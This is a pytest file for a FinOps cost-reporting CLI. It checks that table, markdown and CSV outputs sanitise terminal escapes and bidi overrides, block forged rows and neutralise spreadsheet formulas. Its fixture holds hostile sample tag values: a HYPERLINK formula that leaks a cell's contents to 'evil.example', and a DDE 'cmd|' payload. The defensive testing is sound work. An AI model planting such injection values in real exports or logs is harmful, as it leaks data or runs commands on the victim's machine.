"""Issue 27 items 10, 11: one sanitiser for every text output, and CSV that a spreadsheet cannot run.

``costs`` printed terminal escapes and bidi overrides from tag values raw when stdout was not a terminal
(``| tee``, CI logs) and into ``--out``; a newline in a tag value forged a table row; ``--format csv``
wrote ``=HYPERLINK(…)`` as it came. The tags below reach the store through an ordinary FOCUS ingest.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from typer.testing import CliRunner

from finops_cli.cli.app import app

ENV = {"NO_COLOR": "1", "COLUMNS": "200", "FINOPS_STORE": ""}
ESCAPES = "\x1b]0;pwned\x07\x1b[2J"
TEAMS = {
    "escapes": f"ops{ESCAPES}",
    "bidi": "fin\u202eexe.txt",
    "newline": "ml\nforged  USD  $999,999.00",
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "tab": "\tleading tab",
}
#: what data may not put in any output (tab and newline are the documents' own)
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]")


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hygiene")
    path = root / "focus.csv"
    header = ["BillingAccountId", "BillingPeriodStart", "ChargePeriodStart", "ChargePeriodEnd", "BilledCost"]
    header += ["EffectiveCost", "BillingCurrency", "ProviderName", "ChargeCategory", "x_GpuHours", "Tags"]
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(header)
        for day, team in enumerate(TEAMS.values(), start=1):
            start, end = f"2026-10-{day:02d}T00:00:00Z", f"2026-10-{day + 1:02d}T00:00:00Z"
            w.writerow(["acct", "2026-10-01", start, end, "10", "10", "USD", "AWS", "Usage", "8",
                        json.dumps({"team": team})])  # fmt: skip
    r = CliRunner().invoke(app, ["ingest", "billing", str(path), "--store", str(root / "s")], env=ENV)
    assert r.exit_code == 0, r.output
    return root / "s"


def _costs(store: Path, *args: str) -> str:
    r = CliRunner().invoke(app, ["costs", "--store", str(store), "--by", "team", *args], env=ENV)
    assert r.exit_code == 0, r.output
    return r.stdout


def test_a_table_piped_or_written_carries_no_escapes_and_no_forged_rows(store: Path, tmp_path: Path) -> None:
    out = tmp_path / "costs.txt"
    _costs(store, "--out", str(out))
    for text in (_costs(store), out.read_text(encoding="utf-8")):  # CliRunner's stdout is not a terminal
        assert not UNSAFE.search(text), repr(text)
        assert "pwned" in text and "exe.txt" in text  # shown, inert
        body = [line for line in text.splitlines() if "USD" in line and "$" in line]
        assert len(body) == len(TEAMS), text  # one row per team: the newline did not add one
        assert not any(line.lstrip().startswith("forged") for line in text.splitlines())


def test_markdown_is_clean_too(store: Path) -> None:
    text = _costs(store, "--format", "markdown")
    assert not UNSAFE.search(text), repr(text)


def test_csv_neutralises_formulas_and_keeps_numbers(store: Path) -> None:
    text = _costs(store, "--format", "csv")
    assert not UNSAFE.search(text.replace("\t", "")), repr(text)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(TEAMS)
    for row in rows:
        assert not row["team"].startswith(("=", "+", "-", "@", "\t", "\r")), row
        assert float(row["cost"]) == 10.0  # numbers stay numbers
    teams = {row["team"] for row in rows}
    assert "'" + TEAMS["formula"] in teams and "'" + TEAMS["at"] in teams and "'" + TEAMS["plus"] in teams


def test_a_library_warning_is_a_debug_line_not_user_output(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Issue 27 item 16, the safety net: numpy's "overflow encountered in divide" reached stderr; any Python
    warning under the CLI is now a debug line, shown with -v only."""
    import warnings

    import numpy as np

    from finops_cli import api

    def overflowing(*args: object, **kwargs: object) -> list:
        np.array([1e308]) / np.array([1e-10])  # a RuntimeWarning, as from the planner's arithmetic
        return []

    monkeypatch.setattr(api, "store_sources", overflowing)
    for flags, shown in (([], False), (["-v"], True)):
        with warnings.catch_warnings():
            warnings.simplefilter("always")  # numpy warns once per place by default: each run warns here
            r = CliRunner().invoke(app, [*flags, "store", "list", "--store", str(tmp_path / "s")], env=ENV)
        assert r.exit_code == 0, r.output
        assert ("overflow encountered in divide" in r.stderr) is shown, r.stderr
        assert "RuntimeWarning: overflow" not in r.stdout
        if shown:
            line = next(x for x in r.stderr.splitlines() if "overflow" in x)
            assert line.startswith("debug: RuntimeWarning")
